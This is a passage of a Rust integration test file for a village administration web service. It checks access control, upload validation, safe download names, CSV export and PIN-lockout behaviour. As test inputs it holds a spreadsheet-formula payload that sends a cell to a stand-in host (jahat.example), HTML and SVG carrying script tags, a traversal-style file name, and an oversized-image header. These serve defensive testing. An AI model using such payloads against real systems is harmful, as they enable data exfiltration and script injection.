    .await;
    assert_eq!(res.status(), StatusCode::OK);
    let res = put("keramaian", json!({"enabled": false}), w.admin.clone()).await;
    assert_eq!(res.json::<Value>().await.unwrap()["enabled"], false);
    let res = app
        .post(
            &path(A, "letter-requests"),
            Some(&w.operator),
            &json!({"type": "keramaian", "purpose": "Hajatan", "subject_id": w.people[0]["id"],
                    "fields": {"acara": "Hajatan", "tanggal_acara": "1 Desember", "tempat_acara": "Rumah"}}),
        )
        .await;
    let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(body["errors"][0]["field"], "type");

    // Desa B's admin neither reads nor changes A's letter settings.
    let res = app
        .get(&path(A, "letter-settings"), Some(&w.other_admin))
        .await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = put_settings(&app, &w.other_admin, &json!({"paper": "f4"})).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = put_settings(&app, &w.admin, &json!({"paper": "legal"})).await;
    assert_eq!(
        assert_problem(res, StatusCode::BAD_REQUEST).await["errors"][0]["field"],
        "paper"
    );
    // Number formats: [nomor] required, parts known; one sequence for all types on request.
    for bad in ["[kode_surat]/[tahun]", "[nomor]/[rt]"] {
        let res = put_settings(&app, &w.admin, &json!({"number_format": bad})).await;
        let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
        assert_eq!(body["errors"][0]["field"], "number_format");
    }
    let res = put_settings(&app, &w.admin, &json!({"number_format": "[nomor]/[kode_surat]/[tahun]", "single_sequence": true, "paper": "f4"})).await;
    assert_eq!(res.status(), StatusCode::OK);
    // The desa's own logo for the kop surat: an image by content, from the desa admin only.
    let logo = |token: &str, bytes: Vec<u8>| {
        app.client
            .put(app.url(&path(A, "letters/logo")))
            .bearer_auth(token.to_string())
            .header("content-type", "image/png")
            .body(bytes)
    };
    let res = logo(
        &w.admin,
        b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
    )
    .send()
    .await
    .unwrap();
    assert_problem(res, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    for token in [&w.operator, &w.other_admin] {
        let res = logo(token, PNG.to_vec()).send().await.unwrap();
        assert_problem(res, StatusCode::FORBIDDEN).await;
    }
    // A PNG that does not decode is refused too: it would break every letter after it.
    let res = logo(&w.admin, PNG.to_vec()).send().await.unwrap();
    assert_problem(res, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    // A small file declaring a huge image is refused from its header, not decoded.
    let res = logo(&w.admin, png_header_only(60_000, 60_000))
        .send()
        .await
        .unwrap();
    let refused = assert_problem(res, StatusCode::PAYLOAD_TOO_LARGE).await;
    assert!(refused["detail"].as_str().unwrap().contains("piksel"));
    let mut real = std::io::Cursor::new(Vec::new());
    image::RgbImage::from_pixel(8, 8, image::Rgb([11, 95, 165]))
        .write_to(&mut real, image::ImageFormat::Png)
        .unwrap();
    let res = logo(&w.admin, real.into_inner()).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let year = sid_core::clock::today().format("%Y").to_string();
    let mut numbers = Vec::new();
    for (kind, fields) in [
        (
            "usaha",
            json!({"nama_usaha": "Warung Berkah", "jenis_usaha": "Warung", "alamat_usaha": "Kp. Krajan"}),
        ),
        ("penduduk", json!({})),
    ] {
        let res = app
            .post(
                &path(A, "letter-requests"),
                Some(&w.operator),
                &json!({"type": kind, "purpose": "Bank", "subject_id": w.people[0]["id"], "fields": fields}),
            )
            .await;
        let created: Value = res.json().await.unwrap();
        assert_eq!(created["status"], "menunggu_tanda_tangan", "{created}");
        let signed = moved(
            &app,
            &w.admin,
            created["id"].as_str().unwrap(),
            "siap_diambil",
        )
        .await;
        numbers.push(signed["number"].as_str().unwrap().to_string());
    }
    assert_eq!(
        numbers,
        [format!("001/510/{year}"), format!("002/470/{year}")]
    );
}

/// A walk-in domicile letter for the neighbour, entered by the operator and signed by the admin.
pub(crate) async fn signed_walk_in(app: &TestApp, w: &World, purpose: &str) -> Value {
    let res = app
        .post(
            &path(A, "letter-requests"),
            Some(&w.operator),
            &json!({"type": "domisili", "purpose": purpose, "subject_id": w.people[3]["id"]}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let id = res.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    moved(app, &w.admin, &id, "siap_diambil").await
}

/// The Agenda's CSV hands a spreadsheet no formula: a purpose typed as one comes out as text.
async fn the_agenda_csv_hands_a_spreadsheet_no_formula(app: TestApp) {
    let w = world(&app).await;
    let purpose = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"klik\")";
    signed_walk_in(&app, &w, purpose).await;
    let res = app
        .get(&path(A, "letters?format=csv"), Some(&w.admin))
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let text = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[4], format!("'{purpose}"), "{text}");
    // The JSON keeps the purpose as typed.
    let agenda = app.get_ok(&path(A, "letters"), Some(&w.admin)).await;
    assert_eq!(agenda["items"][0]["purpose"], purpose);
}

/// A download's file name keeps to safe characters, whatever a desa typed into its number format.
async fn download_names_keep_to_safe_characters(app: TestApp) {
    let w = world(&app).await;
    let res = put_settings(
        &app,
        &w.admin,
        &json!({"number_format": "Ket.\"[nomor]\"; x=y\\..\\"}),
    )
    .await;
    assert_eq!(res.status(), StatusCode::OK);
    let signed = signed_walk_in(&app, &w, "Administrasi").await;
    let id = signed["id"].as_str().unwrap();
    assert_eq!(signed["number"], "Ket.\"001\"; x=y\\..\\");
    let res = app
        .get(&path(A, &format!("letters/{id}/pdf")), Some(&w.admin))
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let header = res.headers()["content-disposition"].to_str().unwrap();
    let name = header
        .strip_prefix("inline; filename=\"")
        .and_then(|r| r.strip_suffix('"'))
        .unwrap_or_else(|| panic!("{header}"));
    assert!(
        name.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')),
        "{header}"
    );
    assert!(
        name.starts_with("surat-Ket.-001-") && name.ends_with(".pdf"),
        "{header}"
    );
}

/// Twenty wrong PINs at once for one NIK all count, none answers 500, and the NIK is locked.
async fn concurrent_wrong_pins_all_count(app: TestApp) {
    use diesel::prelude::*;
    use sid_core::schema::login_attempts;
    let w = world(&app).await;
    let person = &w.people[0];
    let pin = issue_pin(&app, &w.admin, person).await;
    let wrong = if pin == "135792" { "246801" } else { "135792" };
    let (url, body) = (
        path(A, "auth/warga"),
        json!({"nik": person["nik"], "pin": wrong}),
    );
    let attempts = (0..20).map(|_| app.post(&url, None, &body));
    for res in futures_util::future::join_all(attempts).await {
        assert!(
            matches!(
                res.status(),
                StatusCode::UNAUTHORIZED | StatusCode::TOO_MANY_REQUESTS
            ),
            "{}",
            res.status()
        );
    }
    let failures: i32 = app
        .state
        .db
        .global_read(|conn| {
            Ok(login_attempts::table
                .select(login_attempts::failures)
                .filter(login_attempts::subject.like("warga:%"))
                .first(conn)?)
        })
        .await
        .unwrap();
    assert_eq!(failures, 20);
    // Locked: the right PIN is refused now.
    let res = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": person["nik"], "pin": pin}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
}

async fn a_hundred_letters_signed_at_once_are_numbered_1_to_100(app: TestApp) {
    let w = world(&app).await;
    let mut ids = Vec::new();
    for _ in 0..100 {
        let res = app
            .post(
                &path(A, "letter-requests"),
                Some(&w.operator),
                &json!({"type": "domisili", "purpose": "Administrasi", "subject_id": w.people[3]["id"]}),
            )
            .await;
        assert_eq!(res.status(), StatusCode::CREATED);
        ids.push(
            res.json::<Value>().await.unwrap()["id"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    let signs = ids
        .iter()
        .map(|id| transition(&app, &w.admin, id, "siap_diambil"));
    let results = futures_util::future::join_all(signs).await;
    let mut numbers = Vec::new();
    for res in results {
        let status = res.status();
        let body: Value = res.json().await.unwrap();
        assert_eq!(status, StatusCode::OK, "{body}");
        numbers.push(body["sequence_no"].as_i64().unwrap());
    }
    numbers.sort_unstable();
    assert_eq!(numbers, (1..=100).collect::<Vec<i64>>());
    let agenda = app
        .get_ok(&path(A, "letters?per_page=200"), Some(&w.admin))
        .await;
    assert_eq!(agenda["total"], 100);
}

async fn documents_are_judged_by_content_and_size(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[0]).await;
    let id = domicile_request(&app, &warga).await;
    // HTML and SVG named .jpg (and sent as image/jpeg) are refused by their content.
    let html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>".to_vec();
    let svg =
        br#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#.to_vec();
    for bytes in [html, svg] {
        let res = upload(&app, &warga, &id, "KTP", bytes).await;
        assert_problem(res, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    }
    // Over the size limit: 413.
    let mut big = PNG.to_vec();
    big.resize(2 * 1024 * 1024 + 1, 0);
    let res = upload(&app, &warga, &id, "KTP", big).await;
    assert_problem(res, StatusCode::PAYLOAD_TOO_LARGE).await;
    // A document the type does not ask for; another villager; desa B's staff.
    let res = upload(&app, &warga, &id, "Ijazah", PNG.to_vec()).await;
    assert_eq!(
        assert_problem(res, StatusCode::BAD_REQUEST).await["errors"][0]["field"],
        "kind"
    );
    let neighbour = villager(&app, &w.admin, &w.people[3]).await;
    let res = upload(&app, &neighbour, &id, "KTP", PNG.to_vec()).await;
    assert_problem(res, StatusCode::NOT_FOUND).await;
    let res = upload(&app, &w.other_admin, &id, "KTP", PNG.to_vec()).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let detail = app
        .get_ok(&path(A, &format!("letter-requests/{id}")), Some(&warga))
        .await;
    assert!(detail["documents"].as_array().unwrap().is_empty());
    // A real image is kept, and comes back as it went in, to the staff.
    let res = upload(&app, &warga, &id, "KTP", PNG.to_vec()).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let doc: Value = res.json().await.unwrap();
    assert_eq!(doc["content_type"], "image/png");
    let back = app
        .get(
            &path(
                A,
                &format!(
                    "letter-requests/{id}/documents/{}",
                    doc["id"].as_str().unwrap()
                ),
            ),
            Some(&w.operator),
        )
        .await;
    assert_eq!(back.headers()["x-content-type-options"], "nosniff");
    assert_eq!(back.bytes().await.unwrap().as_ref(), PNG);
    // Desa B's staff cannot fetch it, on A's route or their own.
    let doc_id = doc["id"].as_str().unwrap();
    for p in [
        path(A, &format!("letter-requests/{id}/documents/{doc_id}")),
        path(B, &format!("letter-requests/{id}/documents/{doc_id}")),
    ] {
        let res = app.get(&p, Some(&w.other_admin)).await;
        assert!(
            matches!(res.status(), StatusCode::FORBIDDEN | StatusCode::NOT_FOUND),
            "{p}"
        );
    }
}

async fn villagers_see_their_data_and_who_viewed_it(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[0]).await;
    let me_id = w.people[0]["id"].as_str().unwrap();
    let mine = app.get_ok(&path(A, "warga/me"), Some(&warga)).await;
    assert_eq!(mine["resident"]["nik"], w.people[0]["nik"]);
    assert_eq!(mine["family"].as_array().unwrap().len(), 3);
    // A staff view of the record shows in the villager's access log, with who and when.
    app.get_ok(&path(A, &format!("residents/{me_id}")), Some(&w.operator))
        .await;
    let log = app
        .get_ok(&path(A, "warga/me/access-log"), Some(&warga))
        .await;
    let entries = log["items"].as_array().unwrap();
    assert!(
        entries
            .iter()
            .any(|e| e["actor_username"] == "operator.a" && e["action"] == "resident.view"),
        "{log}"
    );
    // The villager flags a wrong field; the desa's staff see it and settle it.
    for (bad, field) in [
        (json!({"field": "warna_rumah", "note": "x"}), "field"),
        (json!({"field": "birth_date", "note": ""}), "note"),
    ] {
        let res = app
            .post(&path(A, "warga/me/flags"), Some(&warga), &bad)
            .await;
        let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
        assert_eq!(body["errors"][0]["field"], field);
    }
    let res = app
        .post(
            &path(A, "warga/me/flags"),
            Some(&warga),
            &json!({"field": "birth_date", "note": "Lahir 5 Maret, bukan 4 Maret"}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let flag: Value = res.json().await.unwrap();
    let open = app.get_ok(&path(A, "data-flags"), Some(&w.operator)).await;
    assert_eq!(open.as_array().unwrap().len(), 1);
    assert_eq!(open[0]["resident_id"], me_id);
    // The pages: the villager's own, and the flag on the staff's queue.
    let mine = app
        .get(&format!("/desa/{A}/layanan/data"), Some(&warga))
        .await
        .text()
        .await
        .unwrap();
    assert!(mine.contains(w.people[0]["nik"].as_str().unwrap()) && mine.contains("operator.a"));
    let queue = app
        .get(&format!("/desa/{A}/admin/surat"), Some(&w.operator))
        .await
        .text()
        .await
        .unwrap();
    assert!(queue.contains("Lahir 5 Maret, bukan 4 Maret"));
    for token in [&w.other_admin, &w.admin] {
        let res = app
            .get(&format!("/desa/{A}/layanan/data"), Some(token))
            .await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN);
    }
    // Not for desa B's staff, not for villagers, not about B's records.
    let res = app.get(&path(A, "data-flags"), Some(&w.other_admin)).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = app.get(&path(A, "data-flags"), Some(&warga)).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = app.get(&path(A, "warga/me"), Some(&w.admin)).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let resolve = path(
        A,
        &format!("data-flags/{}/resolve", flag["id"].as_str().unwrap()),
    );
    let res = app
        .post(
            &path(
                B,
                &format!("data-flags/{}/resolve", flag["id"].as_str().unwrap()),
            ),
            Some(&w.other_admin),
            &json!({}),
        )
        .await;
    assert_problem(res, StatusCode::NOT_FOUND).await;
    let res = app.post(&resolve, Some(&w.operator), &json!({})).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let open = app.get_ok(&path(A, "data-flags"), Some(&w.operator)).await;
    assert!(open.as_array().unwrap().is_empty());
}
